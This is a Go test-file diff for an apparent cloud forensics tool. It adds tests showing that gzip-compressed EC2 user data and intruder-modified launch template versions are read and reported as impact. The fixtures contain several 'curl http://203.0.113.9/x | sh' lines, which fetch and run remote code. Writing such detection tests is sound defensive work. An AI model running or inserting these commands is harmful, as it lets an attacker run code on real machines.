@@ -1,6 +1,8 @@
 package investigation
 
 import (
+	"bytes"
+	"compress/gzip"
 	"encoding/base64"
 	"encoding/json"
 	"slices"
@@ -62,6 +64,20 @@ func TestUserDataIsReadAndNotQuoted(t *testing.T) {
 	}
 }
 
+func TestUserDataInGzipIsRead(t *testing.T) {
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	if _, err := z.Write([]byte("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")); err != nil {
+		t.Fatal(err)
+	}
+	z.Close()
+	for name, text := range map[string]string{"whole": b.String(), "cut off at its checksum": b.String()[:b.Len()-6]} {
+		if got, _ := userDataTold(t, text); len(got) != 1 {
+			t.Errorf("%s: %q", name, got)
+		}
+	}
+}
+
 func TestInstancesOfTheCase(t *testing.T) {
 	in := &inquiry{res: &Result{}}
 	in.res.Resources = []ledger.Resource{{ID: "i-2", Type: "AWS::EC2::Instance", Effect: []string{"modified"}}, {ID: "arn:aws:s3:::b", Type: "AWS::S3::Bucket"}}
@@ -73,5 +89,28 @@ func TestInstancesOfTheCase(t *testing.T) {
 	list := in.caseInstances()
 	if len(list) != 2 || list[0].id != "i-1" || !slices.Equal(list[0].keys, []string{"ASIA1", "ASIA2"}) || list[1].id != "i-2" || list[1].made != "" {
 		t.Errorf("%+v", list)
+	}
+}
+
+// A version of a launch template that the intruder touched runs at every start of
+// whatever is made from it: each of its versions is read, others' templates are not.
+func TestLaunchTemplatesAreRead(t *testing.T) {
+	version := func(id, text string) *evidence.Observation {
+		template, n, _ := strings.Cut(id, ":")
+		body, err := json.Marshal(map[string]any{"LaunchTemplateId": template, "VersionNumber": n,
+			"LaunchTemplateData": map[string]any{"UserData": base64.StdEncoding.EncodeToString([]byte(text))}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return &evidence.Observation{Kind: "launch_template", ID: id, Snapshot: strings.Repeat("0", 64), Body: body}
+	}
+	in := &inquiry{res: &Result{}, observed: &observed{things: map[string][]*evidence.Observation{}}}
+	for id, text := range map[string]string{"lt-1:1": "#!/bin/sh\ntrue\n", "lt-1:2": "curl http://203.0.113.9/x | sh", "lt-2:1": "curl http://203.0.113.9/x | sh", "lt-10:1": "curl http://203.0.113.9/x | sh"} {
+		in.observed.things[id] = []*evidence.Observation{version(id, text)}
+	}
+	in.res.Resources = []ledger.Resource{{ID: "arn:aws:ec2:us-east-1:111122223333:launch-template/lt-1", Type: "AWS::EC2::LaunchTemplate", Effect: []string{"modified"}, ByEvent: []string{"event:e1"}}}
+	in.userData()
+	if len(in.res.Impact) != 1 || !strings.HasPrefix(in.res.Impact[0].Text, "Launch template version lt-1:2 holds commands") || in.res.Impact[0].Level != "probable" {
+		t.Errorf("%+v", in.res.Impact)
 	}
 }
